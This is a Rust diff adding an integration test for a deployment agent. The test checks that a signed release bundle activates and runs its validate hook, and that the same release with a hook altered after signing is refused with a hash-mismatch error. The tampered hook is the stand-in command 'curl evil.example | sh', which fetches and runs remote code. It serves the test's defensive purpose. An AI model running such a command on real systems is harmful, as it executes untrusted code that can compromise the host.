@@ -562,6 +562,99 @@ fn a_validate_hook_past_its_timeout_is_killed_and_fails_the_activation() {
     assert_eq!(fx.agent.current_release().as_deref(), Some(v1.id.as_str()));
 }
 
+/// `serin keygen` and `serin release sign` work unchanged on a bundle: an agent pinning the key
+/// activates the signed bundle (the signature covers the whole bundle, hooks included, and its
+/// `validate` runs), and refuses the same release with a hook changed after signing, before
+/// fetching anything.
+#[test]
+fn a_signed_bundle_is_verified_whole_and_a_changed_hook_is_refused() {
+    use serin_tests::agent_proc::AgentProc;
+    use serin_tests::fake_coordinator::FakeCoordinator;
+    let dir = tempfile::tempdir().unwrap();
+    let serin = |args: &[&str]| {
+        let o = std::process::Command::new(serin_tests::binaries::serin())
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(
+            o.status.success(),
+            "serin {args:?}: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    };
+    let keys = dir.path().display().to_string();
+    serin(&["keygen", "--out-dir", &keys, "--name", "rel"]);
+    let public = std::fs::read_to_string(dir.path().join("rel.pub")).unwrap();
+
+    let coord = FakeCoordinator::start();
+    let agent = AgentProc::configure(&coord.url(), &AgentOptions::new("wired-signed-bundle"));
+    let config = std::fs::read_to_string(agent.config_path()).unwrap();
+    let pinned = config.replacen(
+        "stop_timeout = \"2s\"",
+        &format!(
+            "stop_timeout = \"2s\"\nsigning_keys = [\"{}\"]",
+            public.trim()
+        ),
+        1,
+    );
+    assert_ne!(pinned, config);
+    std::fs::write(agent.config_path(), pinned).unwrap();
+    agent.spawn(None);
+    let fx = AgentFixture { agent, coord };
+    fx.wait_attached(1);
+
+    let v1 = DemoRelease::healthy("signed-1.0");
+    let v1 = bundle(&v1, &[("validate", &logging_hook("exit 0"))]);
+    let file = dir.path().join("v1.tar");
+    std::fs::write(&file, &v1.bytes).unwrap();
+    let file = file.display().to_string();
+    serin(&[
+        "release",
+        "sign",
+        &file,
+        "--key",
+        &format!("{keys}/rel.key"),
+        "-s",
+        SERVICE,
+        "-r",
+        &v1.id,
+        "--counter",
+        "1",
+    ]);
+    let manifest = std::fs::read_to_string(format!("{file}.manifest")).unwrap();
+    fx.publish(&v1);
+    let mut w = v1.wire(SERVICE, "");
+    w.manifest = manifest.clone();
+    fx.send(orders::activate(1, w, Deadlines::quick()));
+    let r = fx.wait_result("v1 healthy", |r| {
+        r.seq == 1 && matches!(r.phase(), OrderPhase::Healthy | OrderPhase::Failed)
+    });
+    assert_eq!(
+        r.phase(),
+        OrderPhase::Healthy,
+        "{}\n{}",
+        r.message,
+        fx.dump()
+    );
+    fx.wait_serving(&v1.id);
+    let ran = std::fs::read_to_string(fx.agent.state_dir().join("hooks.log")).unwrap();
+    assert_eq!(ran, "signed-1.0 validate\n");
+
+    // The same release id and manifest, a bundle whose hook was changed after signing.
+    let evil = bundle(
+        &DemoRelease::healthy("signed-1.0"),
+        &[("validate", &logging_hook("curl evil.example | sh"))],
+    );
+    assert_ne!(evil.sha256, v1.sha256);
+    fx.publish(&evil);
+    let mut w = evil.wire(SERVICE, "");
+    w.manifest = manifest;
+    fx.send(orders::stage(2, w));
+    let r = fx.wait_outcome(2);
+    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
+    assert_eq!(r.code(), ResultCode::SignedHashMismatch, "{}", r.message);
+}
+
 /// A hostile bundle (a hook that is a symbolic link out of the release) fails its stage with
 /// BAD_BUNDLE naming the entry; nothing of it stays on disk and the current release serves on.
 #[test]
